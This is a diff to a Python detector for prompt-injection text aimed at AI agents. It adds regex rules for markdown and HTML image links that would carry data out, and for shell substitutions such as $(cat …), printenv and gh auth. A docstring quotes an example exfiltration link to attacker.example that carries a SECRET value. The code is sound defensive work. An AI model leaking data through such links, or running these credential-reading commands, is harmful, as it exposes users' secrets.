+    r"password)[^}\n]{0,40}\}\}?|\$\((?:cat|printenv|env|git\s++(?:remote|config|log|branch)|whoami|hostname|"
+    r"base64|head|gh\s++auth|id|ls|pwd)\b[^)\n]{0,80}\))",
 )
 
 
@@ -584,7 +659,7 @@ RISKY_ORDER = Rule(
 
 _PLACEHOLDER = re.compile(
     r"\{[^}]{1,60}\}|\$\{?\w+|<[^>]{1,60}>|\[[^\]]{3,80}\]|(?:%[0-9a-fA-F]{2}[^%]{0,6}){4,}|"
-    r"^[A-Z]{4,20}(?:_[A-Z]++)*+$|^(?:api_?key|token|secret|password|email|env|key)$"
+    r"^[A-Z]{4,20}(?:_[A-Z]++)*+$|^(?:api_?key|token|secret|password|email|env|key)$|^<|^\$\("
 )
 
 
@@ -595,17 +670,57 @@ def _carries_data(match: re.Match[str]) -> bool:
     values = [v for _, v in urllib.parse.parse_qsl(parts.query, keep_blank_values=True)]
     values += re.findall(r"\[[^\]]{3,80}\]", parts.query)  # a bracketed instruction inside the query
     values += [parts.path, parts.fragment]
+    if re.search(r"[?&][\w-]{1,20}=$", match.group("url")):
+        return True  # "?d=": the text is to say what goes after it
     return any(
         _PLACEHOLDER.search(v) or (len(v) >= 32 and re.fullmatch(r"[A-Za-z0-9+/=_.-]+", v) and "/" not in v)
         for v in values
     )
 
 
+_SLOT_DATA = re.compile(
+    r"\b(?:user|secret|key|token|password|contents?|files?|history|conversation|chat|email|name|diff|summary|env|"
+    r"prompt|credentials?|output|listing|question|data|code|company|address|database|repo\w*+)\b|\$\(|\bappend|"
+    r"_(?:key|token|secret)\b|zawarto|contenu|contenido|contenuto|inhalt|conteúdo|inhoud|innehåll", re.I
+)
+_SHOWN_AS = re.compile(r"(?:\blike|e\.g\.|such\s+as|for\s+(?:example|instance)|example:?)\s*$", re.I)
+
+
+def _exfil_link(match: Any) -> bool:
+    """An address that would carry data out, and not one shown as an example of the attack
+    ("the model outputs something like ![](https://attacker.example/?q=SECRET)")."""
+    if not _carries_data(match):
+        return False
+    text = match.string
+    after = text[match.end() : match.end() + 240]
+    if re.search(r"[?&][\w-]{1,20}=$", match.group("url")) and not _SLOT_DATA.search(after):
+        return False  # an empty search box, not a slot the text fills with data
+    before = text[max(0, match.start() - 80) : match.start()]
+    return not (_SHOWN_AS.search(before) and _META.search(text[max(0, match.start() - 400) : match.end() + 400]))
+
+
 MARKDOWN_EXFIL = Rule(
     "markdown_exfiltration", HIGH, "a markdown image or link whose address would carry data out",
     ("![", "]("),
     r"!?\[[^\]\n]{0,200}\]\(\s*+(?P<url>https?://(?:[^\s()\[\]]++|\([^\s()]{0,80}\)|\[[^\]\n]{0,100}\]){1,60}+)",
-    check=_carries_data,
+    check=_exfil_link,
+)
+HTML_IMAGE_EXFIL = Rule(
+    "markdown_exfiltration", HIGH, "an HTML image or a reference link whose address would carry data out",
+    ("<img", "]:"),
+    r"<img\b[^>\n]{0,200}?\bsrc\s*+=\s*+[\"']?(?P<url>https?://[^\s\"'>]++)|"
+    r"^\s*+\[[^\]\n]{1,40}\]:\s*+(?P<ref>https?://\S++)",
+    check=lambda m: _exfil_link(_Renamed(m)),
+    near=(("://",),),
+)
+URL_SLOT = Rule(
+    "markdown_exfiltration", HIGH, "an address with an empty parameter that the text asks to fill with data",
+    ("followed by", "appended", "append", "replace", "after ", "where ", "put ", "place ", "plus ", "containing",
+     "set to", "+ the", "+ any", "+ your"),
+    r"https?://[^\s)\"'<>]{1,300}?[?&][\w-]{1,20}=(?=[\s)\"'>]|$)[^\n]{0,100}?(?:\b(?:followed\s++by|appended|append|"
+    r"replac\w*+|after|where|put|place|plus|containing|set\s++to)\b|\+\s++(?:the|any|your)\b)[^\n]{0,100}",
+    check=lambda m: _use(m) and _SLOT_DATA.search(m.group()) is not None,
+    near=(("://",),),
 )
 MARKDOWN_APPEND = Rule(
     "markdown_exfiltration", HIGH, "text asks for data to be put into a link or image address",
@@ -615,6 +730,25 @@ MARKDOWN_APPEND = Rule(
     r"\b(?:append|add|include|put|insert|encode|embed|replace)\b[^\n]{0,100}?\b(?:to|in|into|as)\s++(?:the\s++)?"
     r"(?:\w++\s++)?(?:url|link|image\s++(?:url|link|source)|query(?:\s++string)?|parameter|markdown\s++image)\b",
 )
+
+class _Renamed:
+    """A match whose ``url`` group is whichever address group matched (for _exfil_link)."""
+
+    def __init__(self, match: re.Match[str]) -> None:
+        self._match = match
+        self.string = match.string
+
+    def group(self, name: str | int = 0) -> str:
+        if name == "url":
+            return self._match.group("url") or self._match.group("ref") or ""
+        return self._match.group(name)
+
+    def start(self) -> int:
+        return self._match.start()
+
+    def end(self) -> int:
+        return self._match.end()
+
 
 # -- hidden carriers -----------------------------------------------------------------------
 
@@ -635,18 +769,20 @@ DECODE_ASK = Rule(
     check=_use,
 )
 
+from sandbox.inspectors.adversary_shapes import SHAPE_ACTIONS, SHAPES  # noqa: E402  (it imports _use from here)
+
 RULES: tuple[Rule, ...] = (
     OVERRIDE, OVERRIDE_EVERYTHING, OVERRIDE_CUES, NEW_INSTRUCTIONS, *OVERRIDE_OTHER, *OVERRIDE_LANGUAGES, ROLE_HIJACK,
     TEMPLATE_TOKEN,
     FAKE_SYSTEM, ADDRESSED, RUN_COMMAND, PIPE_TO_SHELL, EDIT_CONFIG, ADD_DEPENDENCY, SEND_ANYTHING, SEND_DATA,
-    DANGEROUS_ACTION, WEAKEN_SAFEGUARDS, SECRET_IN_URL,
-    MARKDOWN_EXFIL, MARKDOWN_APPEND,
-    HIDDEN_STYLE, DECODE_ASK, HIDE_FROM_USER, FAKE_PERMISSION, RISKY_ORDER, PERSISTENT_ACCESS,
+    DANGEROUS_ACTION, WEAKEN_SAFEGUARDS, SAFEGUARDS_VOID, SECRET_IN_URL,
+    MARKDOWN_EXFIL, MARKDOWN_APPEND, HTML_IMAGE_EXFIL, URL_SLOT,
+    HIDDEN_STYLE, DECODE_ASK, HIDE_FROM_USER, FAKE_PERMISSION, RISKY_ORDER, PERSISTENT_ACCESS, *SHAPES,
 )
 
 # Requests that are harmless alone but not when the same text addresses the agent: the
 # inspector raises them together to one HIGH finding (see adversary.py).
 ACTIONS = frozenset(
     {"asks_to_run_command", "download_and_execute", "asks_to_edit_agent_config", "asks_to_add_dependency",
-     "asks_to_decode", "asks_for_destructive_action"}
+     "asks_to_decode", "asks_for_destructive_action", *SHAPE_ACTIONS}
 )
